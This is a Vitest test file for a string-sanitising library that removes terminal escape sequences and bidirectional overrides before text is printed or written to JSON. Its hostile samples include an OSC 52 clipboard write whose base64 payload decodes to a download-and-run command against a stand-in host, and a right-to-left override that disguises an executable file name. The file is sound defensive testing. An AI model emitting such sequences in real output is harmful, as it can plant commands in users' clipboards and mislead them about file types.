import { describe, expect, it } from 'vitest';
import { printable, printableJson, printableLine, quoted } from './index.js';

describe('printable', () => {
  it('drops escape sequences but keeps lines and tabs', () => {
    expect(printable('a\u001b]0;pwned\u0007b\u001b[2Jc\td\ne\u009b')).toBe('a]0;pwnedb[2Jc\td\ne');
  });

  it('drops an OSC 52 clipboard write and a screen clear, keeping the visible text', () => {
    const hostile = 'f2.0.1\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007\u001b[2J\u001b[H\u009d0;title\u009c';
    expect(printable(hostile)).toBe('f2.0.1]52;c;Y3VybCBldmlsLnNoIHwgc2g=[2J[H0;title');
    expect(printable(hostile)).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
  });

  // Before, only C0 and C1 were dropped: a version string ending in RLO + 'txt.exe' was printed
  // and written into meta.json, scripts.json and generated code as is (issue #23, round 3 probe).
  it('drops bidirectional overrides and isolates, keeping right-to-left text and its marks', () => {
    const hostile = 'v1.10.1\u202etxt.exe \u202a\u202b\u202c\u202d\u2066\u2067\u2068\u2069end';
    expect(printable(hostile)).toBe('v1.10.1txt.exe end');
    expect(printable('\u05e9\u05dc\u05d5\u05dd \u200fa\u200e')).toBe('\u05e9\u05dc\u05d5\u05dd \u200fa\u200e');
  });

  it('keeps one line on one line', () => {
    expect(printableLine('/sdapi/v1/x\n---\n\u001b[2J\ttail')).toBe('/sdapi/v1/x --- [2J tail');
  });

  it('writes JSON with every control character escaped, losslessly', () => {
    const value = { version: 'v1\u009b2J\u001b]52;c;x\u0007\u2028\u202etxt.exe\u2066', n: 1 };
    const text = printableJson(value, 2);
    expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/);
    expect(text).toContain('\\u202e');
    expect(text).toContain('\\u009b');
    expect(JSON.parse(text)).toEqual(value);
  });
});

describe('quoted', () => {
  it('cuts at 80 characters (or the given length) with an ellipsis, and leaves short text alone', () => {
    expect(quoted('Euler a')).toBe('Euler a');
    expect(quoted('x'.repeat(81))).toBe(`${'x'.repeat(80)}…`);
    expect(quoted('abcdef', 3)).toBe('abc…');
  });
});
